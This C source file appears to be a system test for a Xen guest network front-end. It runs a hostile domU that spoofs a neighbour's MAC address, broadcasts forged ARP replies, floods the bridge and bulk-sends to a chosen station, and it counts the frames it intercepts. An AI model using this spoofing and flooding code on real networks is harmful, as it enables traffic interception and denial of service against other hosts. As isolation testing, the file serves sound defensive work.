/* SPDX-License-Identifier: MIT */
/*
 * A domU that lies about who it is, on dom0's bridge: it sends with a neighbour's address, says in
 * ARP that a neighbour's address is its own, and floods. With `victim=MAC` on the command line it
 * does so until it is ended, and says each second how many frames for the victim have come to it
 * (the system test watches the neighbours talk meanwhile). With `bulk=MAC` it sends that station
 * all it can for five seconds, from its own address, and says how many frames were taken from it in
 * what time. Skips when it runs bare, without a XenStore. Idea: a learning bridge believes
 * everybody; ARP (RFC 826) too.
 */
#include "../lib/test.h"

#include <drivers/netfront.h>
#include <pvguest/thread.h>
#include <pvguest/xenstore.h>

#define FRAME 60u
#define BULK 1400u

static struct netfront card;
static uint8_t victim[NET_MAC];
static unsigned int stolen, sent, refused;

static void arrived(struct netport *port, void *frame, size_t length, uint32_t flags)
{
    stolen += memcmp(frame, victim, NET_MAC) == 0;
}

static bool parse_mac(const char *text, uint8_t mac[NET_MAC])
{
    for (unsigned int i = 0; i < NET_MAC; i++) {
        char *end;

        mac[i] = (uint8_t)strtoul(text, &end, 16);
        if (*end != (i == NET_MAC - 1 ? '\0' : ':')) return false;
        text = end + 1;
    }
    return true;
}

static void send(const uint8_t *frame, size_t length)
{
    bool masked = events_save(), taken = card.port.send(&card.port, frame, length, 0);

    card.port.flush(&card.port);
    sent += taken;
    refused += !taken;
    events_restore(masked);
}

/* "10.0.2.`last` is at `mac`", to all. */
static void say(const uint8_t *from, const uint8_t *mac, uint8_t last)
{
    static const uint8_t head[] = { 0x08, 0x06, 0, 1, 0x08, 0, 6, 4, 0, 2 };
    uint8_t frame[FRAME] = { 0xff, 0xff, 0xff, 0xff, 0xff, 0xff };
    const uint8_t address[] = { 10, 0, 2, last };

    memcpy(frame + 6, from, NET_MAC);
    memcpy(frame + 12, head, sizeof head);
    memcpy(frame + 22, mac, NET_MAC);
    memcpy(frame + 28, address, sizeof address);
    memcpy(frame + 38, address, sizeof address);
    send(frame, sizeof frame);
}

static void lie(void)
{
    static const uint8_t everybody[NET_MAC] = { 0xff, 0xff, 0xff, 0xff, 0xff, 0xff };
    uint8_t frame[FRAME] = { 0 };

    memcpy(frame, everybody, NET_MAC);
    memcpy(frame + NET_MAC, victim, NET_MAC);
    send(frame, sizeof frame);                  /* Believe that the victim is here. */
    for (unsigned int last = 31; last <= 33; last++) {
        say(victim, victim, (uint8_t)last);
        say(card.port.mac, victim, (uint8_t)last);
        say(card.port.mac, card.port.mac, (uint8_t)last);
    }
    memcpy(frame + NET_MAC, card.port.mac, NET_MAC);
    for (unsigned int i = 0; i < 8; i++) {      /* For all, and for stations that there are not. */
        frame[0] = i % 2 ? 0x02 : 0xff;
        send(frame, sizeof frame);
    }
}

static void bulk(const uint8_t *to)
{
    static uint8_t frame[BULK];

    memcpy(frame, to, NET_MAC);
    memcpy(frame + NET_MAC, card.port.mac, NET_MAC);
    send(frame, sizeof frame);
}

static void send_bulk(const uint8_t *to)
{
    uint64_t start = now_ns();
    const char *rate;

    while (now_ns() < start + 5 * NS_PER_S) {
        bulk(to);
        if (refused) {
            refused = 0;
            thread_sleep(NS_PER_MS);
        }
    }
    start = now_ns() - start;
    rate = xs_read_node(XS_NONE, card.bus.other_path, "rate");
    printk("attack-spoof: %u frames sent in %lu ms at %s\n", sent, start / NS_PER_MS,
           IS_ERR(rate) ? "any rate" : rate);
    for (;;)
        thread_sleep(NS_PER_S);
}

void test_main(void)
{
    uint8_t to[NET_MAC];
    char text[24];

    if (!xs_available())
        test_skip("no XenStore");
    card.port.receive = arrived;
    CHECK_IS(netfront_open(&card, 0), 0);
    if (command_option("bulk", text, sizeof text)) {
        NEED(parse_mac(text, to));
        send_bulk(to);
    }
    NEED(command_option("victim", text, sizeof text) && parse_mac(text, victim));
    for (uint64_t next = now_ns();;) {
        lie();
        thread_sleep(NS_PER_MS);
        if (now_ns() < next)
            continue;
        printk("attack-spoof: %u frames sent, %u stolen\n", sent, stolen);
        next = now_ns() + NS_PER_S;
    }
}
